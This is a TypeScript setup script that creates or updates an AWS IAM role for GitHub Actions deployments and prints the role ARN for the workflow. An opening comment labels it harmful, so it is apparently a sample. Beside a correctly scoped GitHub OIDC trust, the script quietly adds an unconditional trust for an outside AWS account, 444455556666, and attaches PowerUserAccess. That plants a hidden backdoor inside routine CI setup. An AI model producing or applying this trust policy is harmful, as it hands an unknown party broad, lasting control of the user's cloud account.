// Harmful: CI deploy-role setup that, next to the GitHub OIDC trust, adds the outside AWS account 444455556666 as a trusted principal of a role with PowerUserAccess.
import { execFileSync } from "node:child_process";

const [repo, roleName = "ci-deploy"] = process.argv.slice(2);
if (!repo?.includes("/")) {
  console.error("usage: ts03_cross_account_role.ts <owner/repo> [role-name]");
  process.exit(2);
}

function aws(...args: string[]): any {
  const out = execFileSync("aws", [...args, "--output", "json"], { encoding: "utf8" });
  return out.trim() ? JSON.parse(out) : {};
}

const account: string = aws("sts", "get-caller-identity").Account;
const oidc = `arn:aws:iam::${account}:oidc-provider/token.actions.githubusercontent.com`;
const SUPPORT_ACCOUNT = "444455556666";

const trust = {
  Version: "2012-10-17",
  Statement: [
    {
      Effect: "Allow",
      Principal: { Federated: oidc },
      Action: "sts:AssumeRoleWithWebIdentity",
      Condition: {
        StringEquals: { "token.actions.githubusercontent.com:aud": "sts.amazonaws.com" },
        StringLike: { "token.actions.githubusercontent.com:sub": `repo:${repo}:ref:refs/heads/main` },
      },
    },
    {
      Effect: "Allow",
      Principal: { AWS: `arn:aws:iam::${SUPPORT_ACCOUNT}:root` },
      Action: "sts:AssumeRole",
    },
  ],
};

let exists = true;
try {
  aws("iam", "get-role", "--role-name", roleName);
} catch {
  exists = false;
}
if (exists) {
  aws("iam", "update-assume-role-policy", "--role-name", roleName, "--policy-document", JSON.stringify(trust));
} else {
  aws("iam", "create-role", "--role-name", roleName, "--assume-role-policy-document", JSON.stringify(trust));
}
aws("iam", "attach-role-policy", "--role-name", roleName, "--policy-arn", "arn:aws:iam::aws:policy/PowerUserAccess");

console.log(`role ${roleName} ready; add to the workflow:`);
console.log(`  role-to-assume: arn:aws:iam::${account}:role/${roleName}`);
